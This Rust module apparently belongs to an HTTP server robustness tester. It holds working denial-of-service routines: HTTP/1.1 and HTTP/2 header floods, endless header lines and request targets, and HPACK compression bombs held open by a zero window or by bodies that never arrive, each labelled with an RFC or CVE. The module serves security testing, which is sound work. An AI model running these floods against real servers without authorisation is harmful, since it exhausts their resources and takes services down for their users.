//! Too many headers, too large ones, and few bytes that stand for many.

use super::{AFTER_A_FLOOD, Attack, Outcome, Target};
use crate::frame::{flag, kind, push, setting};
use crate::h1::H1;
use crate::h2::H2;
use crate::hpack;
use crate::wire::Sent;
use std::io;

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "header flood on h1: five thousand", source: "RFC 9110, 5.4", run: many_on_h1 },
    Attack { name: "header flood on h1: one of a megabyte", source: "RFC 9110, 5.4", run: huge_on_h1 },
    Attack { name: "header flood on h1: a line without end", source: "RFC 9112, 3", run: endless_on_h1 },
    Attack { name: "header flood on h1: a target without end", source: "RFC 9112, 3", run: endless_target },
    Attack { name: "header flood on h1: a thousand cookies", source: "RFC 6265", run: cookies_on_h1 },
    Attack {
        name: "header flood on h2: two hundred short ones",
        source: "RFC 9110, 5.4",
        run: |target| one_h2(target, 200, |n| (format!("x-{n}"), String::new())),
    },
    Attack {
        name: "header flood on h2: two hundred cookies",
        source: "RFC 9113, 8.2.3",
        run: |target| one_h2(target, 200, |n| ("cookie".into(), format!("c{n}=1"))),
    },
    Attack {
        name: "header flood on h2: one of sixty thousand bytes",
        source: "RFC 9113, 10.5.1",
        run: |target| one_h2(target, 1, |_| ("x-large".into(), "a".repeat(60_000))),
    },
    Attack { name: "hpack bomb: large entry", source: "CVE-2016-6581; RFC 7541, 7.3", run: bomb_of_large_entry },
    Attack { name: "hpack bomb: held by a zero window", source: "CVE-2026-47774", run: bomb_held },
    Attack { name: "hpack bomb: held by bodies that do not come", source: "CVE-2026-105297", run: bomb_without_body },
];

/// Sends a head on HTTP/1.1 in one go and waits for the verdict.
fn on_h1(target: &Target, head: &str) -> io::Result<Outcome> {
    let mut connection = H1::open(target.address)?;
    connection.send(head.as_bytes());
    Ok(Outcome::of_h1(connection, AFTER_A_FLOOD))
}

fn head(target: &Target) -> String {
    format!("GET {} HTTP/1.1\r\nhost: siege.test\r\n", target.get)
}

fn many_on_h1(target: &Target) -> io::Result<Outcome> {
    let mut text = head(target);
    for n in 0..5000 {
        text.push_str(&format!("x-{n}: 1\r\n"));
    }
    on_h1(target, &(text + "\r\n"))
}

fn huge_on_h1(target: &Target) -> io::Result<Outcome> {
    on_h1(target, &format!("{}x-large: {}\r\n\r\n", head(target), "a".repeat(1 << 20)))
}

fn cookies_on_h1(target: &Target) -> io::Result<Outcome> {
    on_h1(target, &format!("{}{}\r\n", head(target), "cookie: a=1\r\n".repeat(1000)))
}

fn endless_on_h1(target: &Target) -> io::Result<Outcome> {
    endless(target, &format!("{}x-large: ", head(target)))
}

fn endless_target(target: &Target) -> io::Result<Outcome> {
    endless(target, &format!("GET {}?", target.get))
}

fn endless(target: &Target, begin: &str) -> io::Result<Outcome> {
    const WRITE: [u8; 16 * 1024] = [b'a'; 16 * 1024];
    const WRITES: usize = 4096;
    let mut connection = H1::open(target.address)?;
    connection.send(begin.as_bytes());
    for _ in 0..WRITES {
        if connection.send(&WRITE) != Sent::All || connection.look() {
            break;
        }
    }
    Ok(Outcome::of_h1(connection, AFTER_A_FLOOD))
}

/// One request on HTTP/2, in as many frames as it takes.
fn one_h2(target: &Target, count: usize, field: impl Fn(usize) -> (String, String)) -> io::Result<Outcome> {
    let mut block = hpack::request("GET", &target.get, &[]);
    for n in 0..count {
        let (name, value) = field(n);
        hpack::literal(&mut block, name.as_bytes(), value.as_bytes());
    }
    let mut connection = H2::open(target.address, &[])?;
    let mut bytes = Vec::new();
    let pieces: Vec<_> = block.chunks(16 * 1024).collect();
    for (index, piece) in pieces.iter().enumerate() {
        let last = if index + 1 == pieces.len() { flag::END_HEADERS } else { 0 };
        let (kind, begin) = if index == 0 { (kind::HEADERS, flag::END_STREAM) } else { (kind::CONTINUATION, 0) };
        push(&mut bytes, kind, begin | last, 1, piece);
    }
    connection.send(&bytes);
    connection.wait(AFTER_A_FLOOD, |seen| !seen.answers.is_empty() || !seen.resets.is_empty());
    Ok(Outcome::of_h2(connection, AFTER_A_FLOOD))
}

/// Streams that are held at once.
const STREAMS: u32 = 100;

/// Opens streams whose header blocks consist of references to one field.
fn bomb(target: &Target, value: usize, references: usize, end: bool) -> io::Result<Outcome> {
    let mut connection = H2::open(target.address, &[(setting::INITIAL_WINDOW_SIZE, 0)])?;
    let method = if end { "GET" } else { "POST" };
    let path = if end { &target.large } else { &target.post };
    for index in 0..STREAMS {
        let mut block = hpack::request(method, path, &[]);
        if index == 0 {
            hpack::indexing(&mut block, b"x", &vec![b'v'; value]);
        }
        block.extend(std::iter::repeat_n(hpack::NEWEST, references));
        if connection.request(2 * index + 1, &block, end) != Sent::All {
            break;
        }
        if connection.look().goaway.is_some() {
            break;
        }
    }
    let all = STREAMS as usize;
    connection.wait(AFTER_A_FLOOD, |seen| seen.goaway.is_some() || seen.answers.len() + seen.resets.len() >= all);
    Ok(Outcome::of_h2(connection, AFTER_A_FLOOD))
}

/// 4 KiB for every byte: above the limit of a header list in the first block.
fn bomb_of_large_entry(target: &Target) -> io::Result<Outcome> {
    bomb(target, 4000, 12_000, true)
}

/// Just below the limit of 16 KiB, in fields that cost more to hold than they count.
fn bomb_held(target: &Target) -> io::Result<Outcome> {
    bomb(target, 0, 450, true)
}

fn bomb_without_body(target: &Target) -> io::Result<Outcome> {
    bomb(target, 0, 450, false)
}
